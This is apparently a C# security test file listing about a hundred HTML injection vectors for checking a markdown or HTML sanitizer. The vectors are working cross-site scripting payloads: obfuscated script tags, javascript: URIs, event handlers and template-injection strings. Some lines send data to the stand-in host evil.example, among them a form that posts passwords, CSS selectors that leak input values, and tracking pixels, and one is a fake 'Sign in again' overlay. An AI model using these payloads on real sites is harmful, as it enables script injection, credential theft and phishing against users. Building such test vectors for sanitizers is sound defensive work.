namespace Mosaic.Tests.Security;

/// <summary>Elements that run, load or reshape the page.</summary>
internal static class TagVectors
{
    /// <summary>One a line; see <see cref="VectorText"/> for the signs that stand for others.</summary>
    public static IReadOnlyList<string> All { get; } = VectorText.Lines(""""""
        <script>harm()</script>
        <SCRIPT>harm()</SCRIPT>
        <ScRiPt>harm()</sCrIpT>
        <script >harm()</script >
        <script/x>harm()</script>
        <script⏎>harm()</script⏎>
        <script src=//evil.example/x.js></script>
        <script src="data:text/javascript,harm()"></script>
        <script type=module>harm()</script>
        <script type="text/ecmascript">harm()</script>
        <script><!--⏎harm()⏎--></script>
        <script>/*</script><script>*/harm()</script>
        <<script>harm();//<</script>
        <script>harm()<\/script>
        "><script>harm()</script>
        '><script>harm()</script>
        --><script>harm()</script>
        ]]><script>harm()</script>
        </script><script>harm()</script>
        </title><script>harm()</script>
        </textarea><script>harm()</script>
        </style><script>harm()</script>
        </noscript><script>harm()</script>
        </template><script>harm()</script>
        </p></div></mosaic-markdown></main><script>harm()</script>
        <scr<script>ipt>harm()</scr</script>ipt>
        <scr␀ipt>harm()</scr␀ipt>
        <script␀>harm()</script>
        <iframe src="javascript:harm()"></iframe>
        <iframe srcdoc="<script>parent.harm()</script>"></iframe>
        <iframe srcdoc="&lt;script&gt;parent.harm()&lt;/script&gt;"></iframe>
        <iframe src="data:text/html,<script>parent.harm()</script>"></iframe>
        <iframe/src="javascript:harm()">
        <iframe onload=harm()>
        <frameset onload=harm()><frame src="javascript:harm()"></frameset>
        <object data="javascript:harm()"></object>
        <object data="data:text/html;base64,PHNjcmlwdD5oYXJtKCk8L3NjcmlwdD4="></object>
        <object type="text/html" data="/files/x"></object>
        <embed src="javascript:harm()">
        <embed src="data:image/svg+xml,<svg onload=harm()>">
        <applet code="harm.class"></applet>
        <base href="https://evil.example/">
        <base href="javascript:harm()//">
        <meta http-equiv=refresh content="0;url=javascript:harm()">
        <meta http-equiv="refresh" content="0; url=https://evil.example/">
        <meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">
        <link rel=stylesheet href="https://evil.example/x.css">
        <link rel=import href="data:text/html,<script>harm()</script>">
        <link rel=preload as=script href="//evil.example/x.js">
        <link rel="manifest" href="//evil.example/x.json">
        <form action="javascript:harm()"><button>send</button></form>
        <form action="https://evil.example/"><input name=password type=password></form>
        <form id=x></form><button form=x formaction="javascript:harm()">x</button>
        <input type=image formaction="javascript:harm()" src=x>
        <isindex type=image src=1 onerror=harm()>
        <keygen autofocus onfocus=harm()>
        <dialog open onclose=harm()>x</dialog>
        <template><script>harm()</script></template>
        <template shadowrootmode=open><img src=x onerror=harm()></template>
        <slot onslotchange=harm()>
        <portal src="https://evil.example/" onload=harm()>
        <fencedframe src="https://evil.example/"></fencedframe>
        <noscript><p title="</noscript><img src=x onerror=harm()>">
        <noembed><img title="</noembed><img src=x onerror=harm()>">
        <xmp><img title="</xmp><img src=x onerror=harm()>">
        <plaintext><script>harm()</script>
        <listing><img src=x onerror=harm()></listing>
        <comment><img src="</comment><img src=x onerror=harm()>">
        <marquee onstart=harm()>x</marquee>
        <bgsound src="javascript:harm()">
        <layer src="javascript:harm()"></layer>
        <audio src=x onerror=harm()>
        <video><source onerror=harm()></video>
        <video poster="javascript:harm()"></video>
        <track src="javascript:harm()" default>
        <picture><source srcset="x" onerror=harm()><img src=x onerror=harm()></picture>
        <img src="https://evil.example/pixel.gif">
        <img srcset="https://evil.example/p.gif 1x">
        <a ping="https://evil.example/" href="https://a.example/">x</a>
        <a href="https://a.example/" target=_top onclick=harm()>x</a>
        <table background="javascript:harm()"><tr><td background="javascript:harm()">x</table>
        <body background="javascript:harm()" onload=harm()>
        <html onmousemove=harm() manifest="//evil.example/">
        <head><script>harm()</script></head>
        <style>@import "https://evil.example/x.css";</style>
        <style>*{background:url(javascript:harm())}</style>
        <style>input[value^=a]{background:url(https://evil.example/a)}</style>
        <div style="position:fixed;inset:0;z-index:9999;background:#fff">Sign in again</div>
        <p style="background:url('https://evil.example/p')">x</p>
        <div style="width:expression(harm())">x</div>
        <div style="-moz-binding:url(//evil.example/x.xml#a)">x</div>
        <div style="behavior:url(x.htc)">x</div>
        <?php echo '<script>harm()</script>'; ?>
        <?xml-stylesheet href="javascript:harm()"?>
        <!DOCTYPE x [<!ENTITY y "<script>harm()</script>">]>&y;
        <!--<img src="--><img src=x onerror=harm()>
        <!--[if gte IE 4]><script>harm()</script><![endif]-->
        <![CDATA[<script>harm()</script>]]>
        <%= harm() %>
        {{constructor.constructor('harm()')()}}
        ${harm()}
        @(harm())
        """""");
}
